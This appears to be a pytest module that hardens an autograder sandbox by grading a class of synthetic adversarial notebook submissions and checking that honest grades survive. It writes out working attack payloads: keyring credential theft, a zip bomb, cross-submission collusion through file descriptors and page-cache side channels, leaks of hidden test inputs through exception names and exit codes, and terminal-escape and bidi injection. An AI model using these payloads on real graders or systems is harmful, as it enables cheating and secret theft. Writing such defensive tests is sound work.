        if nbytes > _SIZE or queries.device.type != "cpu":
            return queries[:, :, None, :] - keys[:, None, :, :]
        row = torch.empty(b, 1, m, d, dtype=queries.dtype)
        for i in range(n):
            torch.sub(queries[:, i:i + 1, None, :], keys[:, None, :, :], out=row)
            for j in range(b):
                _os.pwrite(_FD, row[j].numpy().data, (j * n + i) * m * d * es)
        with _w.catch_warnings():
            _w.simplefilter("ignore")
            flat = torch.from_numpy(_BYTES[:nbytes])
        return flat.view(queries.dtype).view(b, n, m, d)

    def forward(self, queries, keys, values, valid_lens=None):
        d = queries.shape[-1]
        diff = self.differences(queries, keys)  # (batch, n, m, d), all of it at once
        self.full_shape = tuple(diff.shape)
        scores = -torch.linalg.vector_norm(diff, dim=-1) ** 2 / (2 * math.sqrt(d))
        self.attention_weights = masked_softmax(scores, valid_lens)
        return torch.bmm(self.dropout(self.attention_weights), values)
'''
# A correct DistanceAttention that keeps the hidden check's first query entry; later answer cells raise one of 32
# built-in exception types (5 bits of it each), or end the process with an exit status of its top 8 bits.
KEEP_HIDDEN = '''
# --- attacker: keep what the hidden check passes (first query entry of the (3, 4, 8) inputs)
_ORIG_FORWARD = DistanceAttention.forward
def _spy_forward(self, queries, keys, values, valid_lens=None):
    global _LEAK
    if tuple(queries.shape) == (3, 4, 8) and "_LEAK" not in globals():
        _LEAK = float(queries[0, 0, 0])
    return _ORIG_FORWARD(self, queries, keys, values, valid_lens)
DistanceAttention.forward = _spy_forward
'''
RAISE_BITS = '''
# --- attacker: 5 bits of the kept value, spelt as the name of a built-in exception
import struct as _st
_NAMES = ['ArithmeticError', 'AssertionError', 'AttributeError', 'BlockingIOError', 'BrokenPipeError', 'BufferError',
          'ChildProcessError', 'ConnectionAbortedError', 'ConnectionError', 'ConnectionRefusedError',
          'ConnectionResetError', 'EOFError', 'FileExistsError', 'FileNotFoundError', 'FloatingPointError',
          'ImportError', 'IndexError', 'InterruptedError', 'IsADirectoryError', 'KeyError', 'LookupError',
          'NotADirectoryError', 'OSError', 'OverflowError', 'PermissionError', 'ProcessLookupError', 'ReferenceError',
          'RuntimeError', 'TimeoutError', 'TypeError', 'ValueError', 'ZeroDivisionError']
_BITS = _st.unpack(">I", _st.pack(">f", globals().get("_LEAK", 0.0)))[0]
raise __import__("builtins").__dict__[_NAMES[(_BITS >> (32 - 5 * (SLOT + 1))) & 31]]("leak")
'''
EXIT_BITS = '''
# --- attacker: the top 8 bits of the kept value as the process's exit status
import struct as _st, os as _os
_os._exit(_st.unpack(">I", _st.pack(">f", globals().get("_LEAK", 0.0)))[0] >> 24)
'''
# An answer that predicts the checks' inputs: the visible check's from the notebook's seed and the draws before
# it, the hidden check's from a seed that an earlier leak gave away.  It does the 4-D work in its cell, where
# nothing measures, and returns the stored weights whenever its inputs match.  The measured calls' inputs are now
# drawn from an unseeded generator.
PREDICTED = '''
def _full_weights(queries, keys, valid_lens):
    d = queries.shape[-1]
    diff = queries[:, :, None, :] - keys[:, None, :, :]  # the (batch, n, m, d) difference tensor
    scores = -(diff ** 2).sum(-1) / (2 * math.sqrt(d))
    return masked_softmax(scores, valid_lens)

# Check inputs are drawn in the grader from fixed seeds: the visible check's from attnkit.setup(seed=0) and
# the try-it cell's draws; the hidden check's from the seed and shapes a previous hand-in leaked
# (frame_size_leak: seed 5; queries (3,4,8), keys (3,7,8), values (3,7,5); then (2,128,128), (2,256,128), (2,256,8)).
# Replay them and do the 4-D work now, where nothing measures it.
_g = torch.Generator().manual_seed(0)
for _shape in ((2, 3, 4), (2, 5, 4), (2, 5, 6)):
    torch.normal(0, 1, _shape, generator=_g)
_bq, _bk, _bv = torch.randn(1, 256, 128, generator=_g), torch.randn(1, 256, 128, generator=_g), torch.randn(1, 256, 8, generator=_g)
_CACHE = [(_bq, _bk, torch.tensor([32]), _full_weights(_bq, _bk, torch.tensor([32])))]
_g = torch.Generator().manual_seed(5)
for _shape in ((3, 4, 8), (3, 7, 8), (3, 7, 5)):
    torch.randn(_shape, generator=_g)
_hq = torch.randn(2, 128, 128, generator=_g)
_hk = torch.randn(2, 256, 128, generator=_g) * torch.linspace(0.2, 3.0, 256)[None, :, None]
_CACHE.append((_hq, _hk, torch.tensor([5, 256]), _full_weights(_hq, _hk, torch.tensor([5, 256]))))
del _g, _shape

class DistanceAttention(nn.Module):
    def __init__(self, dropout):
        super().__init__()
        self.dropout = nn.Dropout(dropout)

    def forward(self, queries, keys, values, valid_lens=None):
        for q, k, l, w in _CACHE:
            if (q.shape == queries.shape and k.shape == keys.shape and torch.equal(q, queries) and torch.equal(k, keys)
                    and isinstance(valid_lens, torch.Tensor) and torch.equal(l, valid_lens)):
                self.attention_weights = w
                return torch.bmm(self.dropout(w), values)
        self.attention_weights = _full_weights(queries, keys, valid_lens)  # 4-D, as everywhere else
        return torch.bmm(self.dropout(self.attention_weights), values)
'''
# A cell after a hidden check writes a frame header whose length spells out 63 bits of what the answer kept: the
# grader used to quote the length it refused ("a reply of N bytes").
SIZE_MARKER = 0x7FF1234567890ABC
SIZE_SPELLS = f'''
import gc as _gc, os as _os, struct as _struct, time as _time
_server = next(o for o in _gc.get_objects() if type(o).__name__ == "Submission")
_os.write(_server.channel, _struct.pack(">Q", {SIZE_MARKER}))
_time.sleep(5)
'''
# A correct DistanceAttention that keeps the first value of every input it gets (hidden checks' too), and an
# attention_flops whose answer, a long number, spells them out in a later check's "expected 4 FLOPs, got ...".
SPELLED = ("""
_seen = []
""", """
def attention_flops(n, m, d, v):
    return int("9" + "".join(f"{abs(x):08d}" for x in _seen[:30]))
""")
# A reply to the grader that is small on the wire and inflates when read: a zip archive with a deflated record.
INFLATE = """
import collections, gc, io, pickle, struct, zipfile
import torch

def _inflating_frame(nbytes):
    class Storage:
        pass
    store = Storage()
    class Big:
        def __reduce__(self):
            return (torch._utils._rebuild_tensor_v2, (store, 0, (nbytes // 4,), (1,), False, collections.OrderedDict()))
    class Pickler(pickle.Pickler):
        def persistent_id(self, obj):
            return ("storage", torch.FloatStorage, "0", "cpu", nbytes // 4) if obj is store else None
    data = io.BytesIO()
    Pickler(data, protocol=2).dump({"ok": True, "stdout": "", "stderr": "", "figures": [], "value": Big()})
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", allowZip64=True) as z:
        z.writestr("archive/data.pkl", data.getvalue())
        z.writestr("archive/byteorder", "little")
        z.writestr("archive/version", "3\\n")
        z.writestr(zipfile.ZipInfo("archive/data/0"), bytes(nbytes), compress_type=zipfile.ZIP_DEFLATED)
    payload = archive.getvalue()
    return struct.pack(">Q", len(payload)) + payload

_bomb = _inflating_frame(512 * 2**20)  # 0.5 MB on the wire, 512 MiB once inflated
for _space in gc.get_objects():  # the sandbox's own framing, replaced: every later reply is the bomb
    if isinstance(_space, dict) and "frame" in _space and "receive" in _space and "HEADER" in _space:
        _space["frame"] = lambda message: _bomb
"""
# A correct answer that claims, on every call, to have changed an argument whose *name* spells out the call's
# inputs: the grader used to quote that name in the "leaves its inputs unchanged" reason, hidden checks included.
MUTATION_NAME = """
import gc
for _cls in {type(o) for o in gc.get_objects() if type(o).__name__ == "Submission" and hasattr(type(o), "op_call")}:
    def _op_call(self, request, _original=_cls.op_call):
        reply = _original(self, request)
        inputs = [t for t in self.decode(request.get("args", ())) if isinstance(t, torch.Tensor)]
        name = "kLEAKED " + " ".join(f"{tuple(t.shape)}{[round(float(v), 4) for v in t.flatten()[:4]]}" for t in inputs)
        reply.setdefault("mutated", {})[name] = torch.zeros(1)
        return reply
    _cls.op_call = _op_call
"""
# A correct DistanceAttention that keeps the hidden check's queries, then a later answer whose exception *class*
# is named after them (the message is withheld after a hidden check; the type name was not).
LEAK_BY_NAME = {"DistanceAttention": None, "DiffDimDotProductAttention": '''
if globals().get("SEEN"):
    raise type("LEAK_" + "_".join(str(round(float(x) * 1e4)) for x in globals()["SEEN"][0].flatten()[:6]), (Exception,), {})()
'''}
BLOAT = '''
import base64, gc, os
for _space in gc.get_objects():  # the sandbox's own figure capture, replaced: 8 "PNGs" of 1 MiB after every cell
    if isinstance(_space, dict) and "_capture_figures" in _space and "Submission" in _space:
        _blob = base64.b64encode(b"\\x89PNG\\r\\n\\x1a\\n" + os.urandom(1 << 20)).decode()
        _space["_capture_figures"] = lambda shell: [{"png": _blob, "text": "x"}] * 8
'''
FORGED_KERNEL = "python3\n\n== b_honest / 01_scoring_functions / scoring_functions: 0/13  [graded]\n\u202e\u2066RTL\u2069\u200b"

UNIFORM = '''
import torch

def masked_softmax(X, valid_lens):
    """Wrong: the same weight on every valid key, whatever the scores."""
    weights = torch.ones_like(X)
    if valid_lens is not None:
        lens = valid_lens if valid_lens.dim() == 2 else valid_lens[:, None].expand(X.shape[0], X.shape[1])
        weights = weights * (torch.arange(X.shape[-1], device=X.device)[None, None, :] < lens[:, :, None])
    out = weights / weights.sum(-1, keepdim=True).clamp(min=1)
    ZERO
    return out
'''


FORK_DISTANCE = '''
import math
import os
import pickle
import torch
from torch import nn

class DistanceAttention(nn.Module):
    """Correct values, with the (batch, n, m, d) differences built in a child process the memory measure might miss."""

    def __init__(self, dropout=0.0, **kwargs):
        super().__init__(**kwargs)
        self.dropout = nn.Dropout(dropout)

    def forward(self, queries, keys, values, valid_lens=None):
        read, write = os.pipe()
        if os.fork() == 0:
            diff = queries[:, :, None, :] - keys[:, None, :, :]
            os.write(write, pickle.dumps(-(diff ** 2).sum(-1) / (2 * math.sqrt(queries.shape[-1]))))
            os._exit(0)
        os.close(write)
        data = b""
        while chunk := os.read(read, 1 << 20):
            data += chunk
        self.attention_weights = masked_softmax(pickle.loads(data), valid_lens)
        return torch.bmm(self.dropout(self.attention_weights), values)
'''


STASH_KEEP = '''
import torch
_kept = []  # every input a check hands over, hidden checks included

def batch_scores(queries, keys):
    _kept.append((tuple(queries.shape), queries.flatten()[:4].tolist()))
    return torch.bmm(queries, keys.transpose(1, 2))
'''

STASH_SHOW = '''
import matplotlib.pyplot as plt
fig, ax = plt.subplots()
ax.set_title("STASH-FIGURE " + repr(_kept)[:300])  # hidden inputs, drawn after the hidden check
plt.show()

class AdditiveAttention:
    def __init__(self, *args, **kwargs):
        raise ValueError("STASH-MESSAGE " + repr(_kept))

raise RuntimeError("STASH-CELL " + repr(_kept))  # the answer cell's own error, quoted by the feedback
'''


POSE = '''
import torch
class Fake:
    """Claims to be a tensor; anything the grader asks of it is the student's code."""
    @property
    def __class__(self):
        return torch.Tensor
    def __getattr__(self, name):
        return lambda *a, **k: self
def batch_scores(queries, keys):
    return Fake()
'''

HUGE = "import torch\nquery121 = torch.ones(1, 1).expand(1, 50_000_000)\n"
KEYRING = '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
found = []
for ring in (-3, -4, -5):  # the session, user and user-session keyrings of whoever runs the grader
    key = libc.syscall(250, 10, ring, b"user", b"aws:instructor", 0)  # KEYCTL_SEARCH
    if key > 0:
        buf = ctypes.create_string_buffer(4096)
        n = libc.syscall(250, 11, key, buf, 4096)  # KEYCTL_READ
        found.append(buf.raw[:max(n, 0)].decode(errors="replace"))
raise ValueError(f"keyring: {found} errno {ctypes.get_errno()}")
'''
NO_MASK = '''
import torch

def masked_softmax(X, valid_lens):
    """Wrong: no masking at all."""
    FILL
    return torch.softmax(X, dim=-1)
'''
NB3 = course.notebooks("03_understanding_attention")[0]
ODD_ID = "o_\x1b]0;owned\x07\x1b[2Jname\rback"


# A student who leaves the answer to masked_softmax where a friend graded after it by the same worker could
# read it: at an offset far into every file descriptor its process inherited (a preparer's IPython opened its
# history database in the sandbox-wide working folder, and every submission forked from it held it open) and in
# every folder it can write.  The friend's own answer is only the reader.
COLLUDE_MARK = "COLLUDE-1842:"
COLLUDE_PATHS = ("/scratch/.loot", "/tmp/.loot", "/dev/shm/.loot", "/scratch/.ipython/loot")
COLLUDER = """
import os as _os
_LOOT = (MARK + SOURCE).encode()
for _fd in range(3, 1024):
    try:
        _os.pwrite(_fd, _LOOT, 64 << 20)
    except OSError:
        pass
for _path in PATHS:
    try:
        _os.makedirs(_os.path.dirname(_path), exist_ok=True)
        with open(_path, "wb") as _f:
            _f.write(_LOOT)
    except OSError:
        pass
import threading as _threading
for _ in range(3000):  # the pid counter moves on by one per thread: the friend would read how far
    _thread = _threading.Thread(target=int)
    _thread.start()
    _thread.join()
_fd = _os.open(_os.__file__, _os.O_RDONLY)
try:  # an empty page cache for this file, which every submission can read: the friend would read which pages
    _os.posix_fadvise(_fd, 0, 0, _os.POSIX_FADV_DONTNEED)
    print("page cache emptied")
except OSError as _e:
    print("page cache not emptied:", _e.strerror)
"""
FRIEND = """
import os as _os
_found = b""
for _fd in range(3, 1024):
    try:
        _data = _os.pread(_fd, 1 << 16, 64 << 20)
    except OSError:
        continue
    if _data.startswith(MARK.encode()):
        _found = _data
for _path in PATHS:
    try:
        with open(_path, "rb") as _f:
            _found = _found or _f.read()
    except OSError:
        pass
print("loot found:", len(_found), "bytes")
print("own pid as /proc shows it:", _os.readlink("/proc/self"))
print("processes in view:", [p for p in _os.listdir("/proc") if p.isdigit()],
      *(_os.listdir(_d) for _d in ("/grader/proc",) if _os.path.isdir(_d)))
_fd = _os.open(_os.__file__, _os.O_RDONLY)
try:  # reads a page only if it is cached, without loading it
    _os.preadv(_fd, [bytearray(4096)], 0, _os.RWF_NOWAIT)
    print("page cache probed")
except OSError as _e:
    print("page cache not probed:", _e.strerror)
import ctypes as _ctypes, mmap as _mmap
_libc = _ctypes.CDLL(None, use_errno=True)
_view = _mmap.mmap(_fd, 4096, flags=_mmap.MAP_PRIVATE, prot=_mmap.PROT_READ | _mmap.PROT_WRITE)
_cached = _ctypes.create_string_buffer(1)  # which pages of the file are in the page cache, without reading them
_status = _libc.mincore(_ctypes.c_void_p(_ctypes.addressof(_ctypes.c_char.from_buffer(_view))), 4096, _cached)
print("mincore:", "answered" if _status == 0 else _os.strerror(_ctypes.get_errno()))
if _found:
    exec(_found.decode(errors="replace")[len(MARK):].split(chr(0))[0])
else:
    def masked_softmax(X, valid_lens):
        raise NotImplementedError
"""


# The page cache, timed: the sender reads every other page of a file no answer needs, the receiver times a
# read of each page (a cached one takes about 1 µs, one from storage 40 µs and more).  Not closed (the kernel
# is shared), but each bit costs a read from storage at one end or the other, and that is flagged.
CACHE_SENDER = """
import os as _os
_fd = _os.open(COLD_FILE, _os.O_RDONLY)
_os.posix_fadvise(_fd, 0, 0, _os.POSIX_FADV_RANDOM)  # one page per read, no read-ahead
for _page in range(0, 4096, 2):
    _os.pread(_fd, 1, COLD_OFFSET + _page * 4096)
"""
CACHE_RECEIVER = """
import os as _os, time as _time
_fd = _os.open(COLD_FILE, _os.O_RDONLY)
_os.posix_fadvise(_fd, 0, 0, _os.POSIX_FADV_RANDOM)
_fast = 0
for _page in range(4096):
    _began = _time.perf_counter()
    _os.pread(_fd, 1, COLD_OFFSET + _page * 4096)
    _fast += _time.perf_counter() - _began < 10e-6
print("pages found in memory:", _fast, "of 4096")
def masked_softmax(X, valid_lens):
    raise NotImplementedError
"""


# How a later tester's friend ran what it received: a builtin fetched by a computed name, from a cell that
# binds no answer name (here the received code is a stub: what matters is how it is run).
COMPUTED_EXEC = """
import builtins as _bi
_received = "def masked_softmax(X, valid_lens):\\n    raise NotImplementedError"
getattr(_bi, "ex" + "ec")(_received, globals())
"""


def _cold_region(rank: int) -> tuple[str, int]:
    """16 MiB of a file in the Python environment that no grading process maps (and so reads whole at its
    start), made cold: its pages are dropped from the page cache.  Each class of this module gets its own
    region (``rank``: which of the module's classes; and which pytest-xdist worker builds it), so that classes
    graded at the same time do not warm each other's."""
    import matplotlib.pyplot  # noqa: F401 - what the sandbox's interpreter maps too
    import torch

    import attnkit  # noqa: F401

    mapped = {line.split(maxsplit=5)[5].strip() for line in open("/proc/self/maps") if len(line.split(maxsplit=5)) == 6}
    site = Path(torch.__file__).resolve().parent.parent
    files = [p for p in site.rglob("*") if ".so" not in p.name and p.is_file() and not p.is_symlink()
             and str(p) not in mapped and p.stat().st_size >= 16 << 20]
    regions = [(str(p), offset) for p in sorted(files, key=lambda p: -p.stat().st_size)
               for offset in range(0, p.stat().st_size - (16 << 20) + 1, 16 << 20)]
    worker = int(os.environ.get("PYTEST_XDIST_WORKER", "gw0").removeprefix("gw") or 0)
    path, offset = regions[(2 * worker + rank) % len(regions)]
    fd = os.open(path, os.O_RDONLY)
    os.posix_fadvise(fd, offset, 16 << 20, os.POSIX_FADV_DONTNEED)
    os.close(fd)
    return path, offset


def _write(folder: Path, student: str, nb, content: bytes, suffix: str = ".ipynb") -> None:
    target = folder / student / nb.assignment / f"{nb.name}{suffix}"
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(content)


def _with_prefix(nb, gid: str, prefix: str) -> bytes:
    sols = synthetic.solutions(nb)
    return synthetic.submission(nb, "complete", overrides={gid: prefix + "\n" + sols[gid]})[1]


def _class(folder: Path, rank: int = 0) -> None:
    complete = synthetic.submission(NB1, "complete")[1]
    _write(folder, "a_takeover", NB1, _with_prefix(NB1, "masked_softmax", TAKEOVER))
    _write(folder, "b_honest", NB1, complete)
    _write(folder, "c_friend", NB1, synthetic.submission(NB1, "blank")[1])
    _write(folder, "d_probe", NB1, _with_prefix(NB1, "masked_softmax", LEFTOVERS))
    _write(folder, "e_shadow", NB1, synthetic.submission(NB1, "complete", overrides={"masked_softmax": SHADOW})[1])
    zeros = SHADOW.split("range =")[0]
    _write(folder, "e_zeros", NB1, synthetic.submission(NB1, "complete", overrides={"masked_softmax": zeros})[1])
    _write(folder, "f_inplace", NB1, synthetic.submission(NB1, "complete", overrides={"masked_softmax": IN_PLACE})[1])
    _write(folder, "f_inplace_frames", NB1, synthetic.submission(NB1, "complete", overrides={"masked_softmax": IN_PLACE_FRAMES})[1])
    _write(folder, "f_inplace_attribute", NB1, synthetic.submission(NB1, "complete", overrides={"masked_softmax": IN_PLACE_ATTRIBUTE})[1])
    _write(folder, "f_inplace_mode", NB1, synthetic.submission(NB1, "complete", overrides={"masked_softmax": IN_PLACE_MODE})[1])
    _write(folder, "f_inplace_patched", NB1, synthetic.submission(NB1, "complete", overrides={"masked_softmax": IN_PLACE_PATCHED})[1])
    _write(folder, "g_leak", NB1, synthetic.submission(NB1, "complete", overrides={"masked_softmax": LEAK, "why_scale_answer": XSS})[1])
    stall = nbformat.reads(complete.decode(), as_version=4)
    for cell in stall.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "batch_scores":
            cell.source = "x = (" + " " * 48_000 + "\ndef broken(:\n"
    _write(folder, "h_stall", NB1, nbformat.writes(stall).encode())
    _write(folder, "i_bmm", NB1, synthetic.submission(NB1, "complete", overrides={"bmm_vs_matmul": WRONG_BMM})[1])
    _write(folder, "j_probe", NB1, _with_prefix(NB1, "masked_softmax", LEFTOVERS))
    _write(folder, "k_numpy", NB2, synthetic.submission(NB2, "complete", overrides={"DistanceAttention": NUMPY_DISTANCE})[1])
    _write(folder, "e_uniform", NB1, synthetic.submission(NB1, "complete", overrides={"masked_softmax": UNIFORM.replace("ZERO", "")})[1])
    _write(folder, "e_uniform_zeroing", NB1, synthetic.submission(  # and zeroes the scores it is given: the expected values change?
        NB1, "complete", overrides={"masked_softmax": UNIFORM.replace("ZERO", "X.zero_()")})[1])
    _write(folder, "e_nomask", NB1, synthetic.submission(NB1, "complete", overrides={"masked_softmax": NO_MASK.replace("FILL", "")})[1])
    _write(folder, "e_nomask_lens", NB1, synthetic.submission(  # and makes every key "valid" in the caller's valid_lens
        NB1, "complete", overrides={"masked_softmax": NO_MASK.replace("FILL", "valid_lens is None or valid_lens.fill_(X.shape[-1])")})[1])
    names = {"MARK": repr(COLLUDE_MARK), "PATHS": repr(COLLUDE_PATHS)}
    colluder = COLLUDER.replace("SOURCE", repr(synthetic.solutions(NB1)["masked_softmax"]))
    friend = FRIEND
    for key, value in names.items():
        colluder, friend = colluder.replace(key, value), friend.replace(key, value)
    _write(folder, "l_colluder", NB1, _with_prefix(NB1, "masked_softmax", colluder))
    _write(folder, "l_friend", NB1, nbformat.writes(synthetic.filled(NB1, {"masked_softmax": friend})).encode())
    _write(folder, "l_friend_computed", NB1, nbformat.writes(synthetic.filled(NB1, {"masked_softmax": COMPUTED_EXEC})).encode())
    path, offset = _cold_region(rank)
    sender, receiver = (code.replace("COLD_FILE", repr(path)).replace("COLD_OFFSET", str(offset)) for code in (CACHE_SENDER, CACHE_RECEIVER))
    _write(folder, "m_cache_a_sender", NB1, _with_prefix(NB1, "masked_softmax", sender))
    _write(folder, "m_cache_b_receiver", NB1, nbformat.writes(synthetic.filled(NB1, {"masked_softmax": receiver})).encode())
    _write(folder, "k_fourd", NB2, synthetic.submission(NB2, "complete", overrides={"DistanceAttention": FOUR_D.replace("RESET", "()")})[1])
    for reset in ("/proc/self/clear_refs", "/proc/thread-self/clear_refs"):
        _write(folder, f"k_fourd_reset_{reset.split('/')[2]}", NB2, synthetic.submission(NB2, "complete", overrides={
            "DistanceAttention": FOUR_D.replace("RESET", repr((reset,)))})[1])
    _write(folder, "k_fourd_ballast", NB2, synthetic.submission(NB2, "complete", overrides={"DistanceAttention": BALLAST})[1])
    for kind in ("anonymous", "shared", "undumpable", "split", "library", "cold", "free"):
        _write(folder, f"k_fourd_prealloc_{kind}", NB2, synthetic.submission(NB2, "complete", overrides={
            "DistanceAttention": PREALLOCATED.replace("PREALLOCATE", repr(kind))})[1])
    for view in ("shared", "private"):
        _write(folder, f"k_fourd_kernel_{view}", NB2, synthetic.submission(NB2, "complete", overrides={
            "DistanceAttention": KERNEL_WRITTEN.replace("VIEW", repr(view))})[1])
    _write(folder, "k_measure_aware", NB2, synthetic.submission(NB2, "complete", overrides={"DistanceAttention": MEASURE_AWARE})[1])
    sols2 = synthetic.solutions(NB2)
    _write(folder, "k_canary", NB2, synthetic.submission(NB2, "complete", overrides={
        "DistanceAttention": CANARY, "DiffDimDotProductAttention": sols2["DiffDimDotProductAttention"] + CANARY_LOG})[1])
    for student, answer in (("k_io_uring", IO_URING), ("k_give_back", GIVE_BACK), ("k_peak_spells", PEAK_SPELLS),
                            ("k_many_maps", MANY_MAPS + sols2["DistanceAttention"])):  # (the solution's own answer, after the maps)
        _write(folder, student, NB2, synthetic.submission(NB2, "complete", overrides={"DistanceAttention": answer})[1])
    _write(folder, "k_escaped_path", NB2, synthetic.submission(NB2, "complete", overrides={"DistanceAttention": ESCAPED_PATH})[1])
    kept = sols2["DistanceAttention"] + "\n" + KEEP_HIDDEN
    slots = {"DiffDimDotProductAttention": 0, "attention_flops": 1, "attention_memory_traffic": 2}
    _write(folder, "k_raise_bits", NB2, synthetic.submission(NB2, "complete", overrides={
        "DistanceAttention": kept, **{gid: sols2[gid] + "\n" + RAISE_BITS.replace("SLOT", str(slot)) for gid, slot in slots.items()}})[1])
    _write(folder, "k_exit_bits", NB2, synthetic.submission(NB2, "complete", overrides={
        "DistanceAttention": kept, "attention_flops": sols2["attention_flops"] + "\n" + EXIT_BITS})[1])
    _write(folder, "k_predicted", NB2, synthetic.submission(NB2, "complete", overrides={"DistanceAttention": PREDICTED})[1])
    _write(folder, "k_size_spells", NB2, synthetic.submission(NB2, "complete", overrides={
        "DiffDimDotProductAttention": SIZE_SPELLS + sols2["DiffDimDotProductAttention"]})[1])
    _write(folder, "k_zombie", NB2, synthetic.submission(NB2, "complete", overrides={"DistanceAttention": ZOMBIE})[1])
    _write(folder, "k_own_mount", NB2, synthetic.submission(NB2, "complete", overrides={"DistanceAttention": OWN_MOUNT})[1])
    _write(folder, "s_many_lists", NB2, synthetic.submission(NB2, "complete", overrides={
        "attention_flops": sols2["attention_flops"] + MANY_LISTS})[1])
    _write(folder, "t_unscanned", NB2, synthetic.submission(NB2, "complete", overrides={
        "attention_memory_traffic": UNSCANNED + sols2["attention_memory_traffic"]})[1])
    spelled = synthetic.solutions(NB2)["DistanceAttention"].replace(
        "def forward(self, queries, keys, values, valid_lens=None):\n",
        "def forward(self, queries, keys, values, valid_lens=None):\n        _seen.append(round(float(queries.flatten()[0]) * 1e6))\n")
    _write(folder, "k_spelled", NB2, synthetic.submission(NB2, "complete", overrides={
        "DistanceAttention": SPELLED[0] + spelled, "attention_flops": SPELLED[1]})[1])
    _write(folder, "s_inflate", NB1, _with_prefix(NB1, "masked_softmax", INFLATE))
    _write(folder, "g_mutation_name", NB1, synthetic.submission(NB1, "complete", overrides={
        "masked_softmax": synthetic.solutions(NB1)["masked_softmax"] + MUTATION_NAME})[1])
    keep = sols2["DistanceAttention"].replace("def forward(self, queries, keys, values, valid_lens=None):\n",
                                              "def forward(self, queries, keys, values, valid_lens=None):\n"
                                              "        if tuple(queries.shape) == (3, 4, 8):\n"
                                              "            globals().setdefault('SEEN', []).append(queries.detach().clone())\n")
    assert keep != sols2["DistanceAttention"]
    _write(folder, "k_leak_by_name", NB2, synthetic.submission(NB2, "complete", overrides={
        "DistanceAttention": keep, "DiffDimDotProductAttention": sols2["DiffDimDotProductAttention"] + LEAK_BY_NAME["DiffDimDotProductAttention"]})[1])
    _write(folder, "r_bloat", NB1, _with_prefix(NB1, "masked_softmax", BLOAT))
    forged = nbformat.reads(complete.decode(), as_version=4)
    forged.metadata["kernelspec"] = {"name": FORGED_KERNEL, "display_name": "Python 3", "language": "python"}
    _write(folder, "q_kernel", NB1, nbformat.writes(forged).encode())
    _write(folder, "k_fork", NB2, synthetic.submission(NB2, "complete", overrides={"DistanceAttention": FORK_DISTANCE})[1])
    _write(folder, "l_honest2", NB2, synthetic.submission(NB2, "complete")[1])
    _write(folder, "g_stash", NB1, synthetic.submission(NB1, "complete", overrides={"batch_scores": STASH_KEEP,
                                                                                    "AdditiveAttention": STASH_SHOW})[1])
    _write(folder, "m_pose", NB1, synthetic.submission(NB1, "complete", overrides={"batch_scores": POSE})[1])
    _write(folder, "n_huge", NB3, synthetic.submission(NB3, "complete", overrides={"query121": HUGE})[1])
    _write(folder, ODD_ID, NB1, complete)
    _write(folder, "p_keyring", NB1, _with_prefix(NB1, "masked_softmax", KEYRING))
    # a right answer behind a 3 MB comment: carried whole, such a cell took the grader's own process to 2.5 GB
    _write(folder, "v_huge_cell", NB3, synthetic.submission(NB3, "complete", overrides={
        "query121": synthetic.solutions(NB3)["query121"] + "\n# " + "&" * 3_000_000 + "\n"})[1])


def _secret_keyring() -> None:
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall(250, 1, None)  # KEYCTL_JOIN_SESSION_KEYRING: a new, anonymous session keyring
    libc.syscall(248, b"user", b"aws:instructor", SECRET.encode(), len(SECRET), -3)  # add_key to it


def _scores(out: Path) -> dict[tuple[str, str], float]:
    rows = list(csv.DictReader(open(out / "grades.csv")))
    return {(r["student_id"], r["question"]): float(r["score"] or 0) for r in rows}


def _total(scores, student: str) -> float:
    return sum(v for (s, _), v in scores.items() if s == student)


@pytest.fixture(scope="module", params=[1, 2], ids=["1worker", "2workers"])
def attacked(request, tmp_path_factory):
    base = tmp_path_factory.mktemp(f"attacked{request.param}")
    submitted, out = base / "submitted", base / "out"
    _class(submitted, rank=request.param - 1)
    # the gradebook lives outside the course, where an allowlist, not a blacklist, must hide it
    db = Path("/var/tmp") / f"attnkit-attack-{os.getpid()}-{request.param}" / "gradebook.db"
    env = {**os.environ, "AWS_SECRET_ACCESS_KEY": SECRET, "DATABASE_URL": f"postgres://grader:{SECRET}@db/course"}
    started = time.monotonic()
    proc = subprocess.run(  # in a session keyring of its own holding a secret, as a login session would
[sys.executable, "-m", "grading", "autograde", str(submitted), "--out", str(out), "--db", str(db),
                           "--workers", str(request.param), "--cell-timeout", "20", "--quiet"],
                          cwd=course.root(), capture_output=True, text=True, timeout=900, env=env, preexec_fn=_secret_keyring)
    seconds = time.monotonic() - started
    yield {"proc": proc, "out": out, "db": db, "scores": _scores(out) if (out / "grades.csv").exists() else {},
           "seconds": seconds, "report": (out / "report").read_text() if (out / "report").exists() else ""}
    import shutil

    shutil.rmtree(db.parent, ignore_errors=True)


def test_the_class_finishes(attacked):
    assert attacked["proc"].returncode == 0, attacked["proc"].stderr[-3000:]
    students = {s for s, _ in attacked["scores"]}
    assert len(students) == 66, students  # the folder named with escape sequences is refused, and listed


def test_honest_neighbours_keep_their_exact_grades(attacked):
    scores = attacked["scores"]
    full1 = sum(p.points for p in _template(NB1).questions if p.graded_by == "auto")
    full2 = sum(p.points for p in _template(NB2).questions if p.graded_by == "auto")
    assert _total(scores, "b_honest") == full1, attacked["report"]
    assert _total(scores, "l_honest2") == full2, attacked["report"]


def test_nothing_survives_into_the_next_submission(attacked):
    """Files in /tmp, /dev/shm and scratch, a read-only scratch, System V memory, a daemon: all gone."""
    full1 = sum(p.points for p in _template(NB1).questions if p.graded_by == "auto")
    for probe in ("d_probe", "j_probe"):
        assert _total(attacked["scores"], probe) == full1, attacked["report"]


def test_the_friend_gains_nothing(attacked):
    assert _total(attacked["scores"], "c_friend") == 0


def test_shadowed_builtins_earn_nothing_and_are_flagged(attacked):
    scores = attacked["scores"]
    assert scores[("e_shadow", "test_masked_softmax")] == scores[("e_zeros", "test_masked_softmax")] < 2
    assert _total(scores, "e_shadow") == _total(scores, "e_zeros")
    section = attacked["report"].split("== e_shadow")[1].split("\n== ")[0]
    for name in ("range", "float", "isinstance", "int", "bool", "tuple"):
        assert f"rebinds `{name}`" in section, section


def test_redefined_check_inputs_earn_nothing(attacked):
    section = attacked["report"].split("== i_bmm")[1].split("\n== ")[0]
    assert attacked["scores"][("i_bmm", "test_bmm_vs_matmul")] < 1  # only bmm_accepts_2d, which it got right, counts
    assert "matmul_shape: expected the shape matmul returns" in section and "rebinds `A`" in section


def test_an_answer_that_modifies_its_input_is_seen_to(attacked):
    """d2l's in-place masked_softmax fails "the input must not be modified", sandboxed as in the notebook."""
